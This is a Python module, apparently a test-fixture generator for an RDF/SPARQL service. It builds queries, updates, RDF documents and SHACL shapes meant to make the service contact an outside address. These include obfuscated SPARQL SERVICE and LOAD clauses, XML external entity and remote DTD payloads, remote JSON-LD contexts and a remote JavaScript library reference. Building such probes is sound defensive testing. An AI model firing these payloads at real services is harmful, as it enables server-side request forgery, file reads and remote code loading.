"""Queries, updates and documents by which a stranger would make the service connect somewhere."""

from __future__ import annotations

from itertools import product
from typing import Final

PATTERN: Final = "{ ?s ?p ?o }"
KEYWORDS: Final = (
    *("SERVICE ", "service ", "sErViCe", "SERVICE SILENT ", "SERVICESILENT", "SERVICE\n\tsilent\r"),
    *("SERVICE#SERVICE\n", "SERVICE # x\rSILENT#y\n", "#'\n SERVICE "),
    *("\\u0053ERVICE ", "SERV\\U00000049CE ", "SERVIC\\u0045#\n"),
)
POSITIONS: Final = (
    "ASK {{ {clause} }}",
    "SELECT * {{ ?a ?b ?c . {clause} }}",
    "SELECT * {{ ?a ?b 1{clause} }}",
    "SELECT * {{ ?a ?b 'x'@en.{clause} }}",
    "SELECT * {{ ?a ?b e:\\# . {clause} }}",
    "SELECT * {{ ?a ?b e:x\\' . {clause} ?d ?e e:\\'' }}",
    "SELECT * {{ {{ {{ {clause} }} }} UNION {{ ?s ?p ?o }} }}",
    "SELECT * {{ ?s ?p ?o OPTIONAL {{ {clause} }} }}",
    "SELECT * {{ ?s ?p ?o MINUS {{ {clause} }} }}",
    "SELECT * {{ GRAPH ?g {{ {clause} }} }}",
    "SELECT * {{ ?s ?p ?o FILTER EXISTS {{ {clause} }} }}",
    "SELECT * {{ ?s ?p ?o FILTER(1 = 1 && NOT EXISTS {{ ?s ?p ?o . {clause} }}) }}",
    "SELECT * {{ BIND(EXISTS {{ {clause} }} AS ?x) }}",
    "SELECT (EXISTS {{ {clause} }} AS ?x) {{ }}",
    "SELECT ?s {{ ?s ?p ?o }} GROUP BY ?s HAVING (EXISTS {{ {clause} }})",
    "SELECT ?s {{ ?s ?p ?o }} ORDER BY (EXISTS {{ {clause} }})",
    "SELECT * {{ {{ SELECT (COUNT(*) AS ?n) {{ {clause} }} }} }}",
    "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ {clause} }}",
    "DESCRIBE ?s {{ {clause} }}",
    "SELECT * {{ VALUES ?x {{ '''it's''' }} {clause} }}",
    'SELECT * {{ VALUES ?x {{ """a" }} {clause} #\\uD800"""\n }}',
    "SELECT * {{ ?s ?p ?o FILTER(?o<?o#>'''\n || true) {clause} #'''\n }}",
)


def queries(url: str) -> list[str]:
    """Return queries with SERVICE in every position, written in every way, some hundred."""
    prologue = f"BASE <{url}> PREFIX e: <{url}> "
    endpoints = (f"<{url}x>", "e:x", "<x>")
    clauses = [
        f"{keyword}{endpoint}{PATTERN}" for keyword, endpoint in product(KEYWORDS, endpoints)
    ]
    found = [position.format(clause=clause) for position in POSITIONS for clause in clauses]
    variable = "SERVICE ?there { ?s ?p ?o }"
    found += [
        f"SELECT * {{ VALUES ?there {{ <{url}> }} {variable} }}",
        f"SELECT * {{ {variable} VALUES ?there {{ e:x }} }}",
        f"SELECT * {{ BIND(<{url}> AS ?there) {variable} }}",
        f"SELECT * {{ BIND(IRI('{url}') AS ?there) {variable.replace('?', '$')} }}",
        f"SELECT * {{ {variable} }} VALUES ?there {{ <{url}> }}",
        f"SELECT * {{ ?there ?b ?c {variable} }}",
        f"SELECT * {{ {{ SELECT (<{url}> AS ?there) {{}} }} {variable} }}",
    ]
    return [prologue + text for text in found]


def updates(url: str) -> list[str]:
    """Return updates that load or federate."""
    prologue = f"BASE <{url}> PREFIX e: <{url}> "
    loads = [
        f"{keyword}{source}{goal}"
        for keyword in ("LOAD ", "load", "LOAD SILENT ", "LoAd#x\nSILENT#y\r", "\\u004cOAD ")
        for source in (f"<{url}x.ttl>", "e:x", "<x>")
        for goal in ("", " INTO GRAPH <urn:g>", "INTO#x\nGRAPH e:g")
    ]
    data = "INSERT DATA { <urn:a> <urn:b> e:\\# }"
    loads += [f"{data} ; {load} ; CLEAR ALL" for load in loads]
    loads += [f"INSERT DATA {{ <urn:a> <urn:b> e:\\# }} ; LOAD <{url}> # }}"]
    clauses = [f"{keyword}<{url}>{PATTERN}" for keyword in KEYWORDS]
    federated = [
        form.format(clause=clause)
        for clause in clauses
        for form in (
            "INSERT {{ ?s ?p ?o }} WHERE {{ {clause} }}",
            "DELETE {{ ?s ?p ?o }} INSERT {{ ?s ?p 1 }} WHERE {{ OPTIONAL {{ {clause} }} }}",
            "WITH <urn:g> DELETE {{ ?s ?p ?o }} USING <urn:h> WHERE {{ ?s ?p ?o . {clause} }}",
        )
    ]
    return [prologue + text for text in loads + federated]


def silent_addresses(url: str) -> list[str]:
    """Return queries that name graphs by addresses, which are names and no places."""
    return [
        f"SELECT * FROM <{url}> {{ ?s ?p ?o }}",
        f"SELECT * FROM NAMED <{url}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
        f"BASE <{url}> ASK FROM <a> FROM NAMED <b> {{ GRAPH <{url}c> {{ ?s ?p ?o }} }}",
        f"DESCRIBE <{url}>",
        f"SELECT * {{ <{url}> <http://www.w3.org/2002/07/owl#imports>* ?o }}",
        f"SELECT (<{url}function>(1) AS ?x) {{ }}",
    ]


def silent_updates(url: str) -> list[str]:
    """Return updates that name graphs by addresses."""
    return [
        f"INSERT {{ ?s ?p ?o }} USING <{url}> USING NAMED <{url}n> WHERE {{ ?s ?p ?o }}",
        f"WITH <{url}> INSERT {{ ?s ?p ?o }} WHERE {{ ?s ?p ?o }}",
        f"INSERT DATA {{ GRAPH <{url}> {{ <{url}> <{url}imports> <{url}> }} }}",
        f"COPY SILENT <{url}> TO <{url}x> ; CLEAR SILENT GRAPH <{url}>",
    ]


def documents(url: str) -> list[tuple[str, str]]:
    """Return RDF documents that refer to others, each with the name of its format."""
    imports = f"<urn:a> <http://www.w3.org/2002/07/owl#imports> <{url}o.ttl> ."
    rdf = "xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'"
    node = "<rdf:Description rdf:about='urn:a'><p xmlns='urn:'>{}</p></rdf:Description>"
    xml = f"<rdf:RDF {rdf}>{node.format('x')}</rdf:RDF>"
    entity = f"<rdf:RDF {rdf}>{node.format('&x;')}</rdf:RDF>"
    return [
        ("turtle", f"@base <{url}> . {imports} <urn:a> a <{url}C> ."),
        ("trig", f"<{url}g> {{ {imports} }}"),
        ("nquads", f"{imports[:-1]}<{url}g> ."),
        ("jsonld", f'{{"@context": "{url}c.jsonld", "@id": "urn:a", "p": 1}}'),
        ("jsonld", f'{{"@context": ["{url}c", {{"@vocab": "urn:"}}], "@id": "urn:a", "p": 1}}'),
        ("jsonld", f'{{"@context": {{"@import": "{url}c"}}, "@id": "urn:a", "p": 1}}'),
        ("jsonld", f'{{"@context": {{"p": {{"@id": "urn:p", "@context": "{url}c"}}}}, "p": {{}}}}'),
        ("rdfxml", f"<!DOCTYPE r SYSTEM '{url}r.dtd'>{xml}"),
        ("rdfxml", f"<!DOCTYPE r PUBLIC '-//x' '{url}r.dtd'>{xml}"),
        ("rdfxml", f"<!DOCTYPE r [<!ENTITY x SYSTEM '{url}x.xml'>]>{entity}"),
        ("rdfxml", f"<!DOCTYPE r [<!ENTITY % x SYSTEM '{url}x.dtd'> %x;]>{xml}"),
        ("rdfxml", f"<?xml-stylesheet href='{url}x.xsl'?>{xml}"),
        ("rdfxml", xml.replace("<rdf:RDF ", f"<rdf:RDF xml:base='{url}' ")),
    ]


def shapes(url: str) -> list[str]:
    """Return shapes graphs in Turtle that refer to others or ask others."""
    prefixes = "@prefix sh: <http://www.w3.org/ns/shacl#> . "
    target = "<urn:S> a sh:NodeShape ; sh:targetSubjectsOf <urn:p> ; "
    select = f"SELECT $this {{ SERVICE <{url}> {{ $this ?p ?o }} }}"
    return [
        f"{prefixes} <urn:o> <http://www.w3.org/2002/07/owl#imports> <{url}s.ttl> . "
        f"{target} sh:class <{url}C> .",
        f"{prefixes} <urn:a> sh:shapesGraph <{url}s.ttl> . {target} sh:nodeKind sh:IRI .",
        f"{prefixes} {target} sh:sparql [ sh:message 'm' ; sh:select '''{select}''' ] .",
        f"{prefixes} {target} sh:js [ sh:jsLibrary [ sh:jsLibraryURL '{url}x.js' ] ] .",
    ]
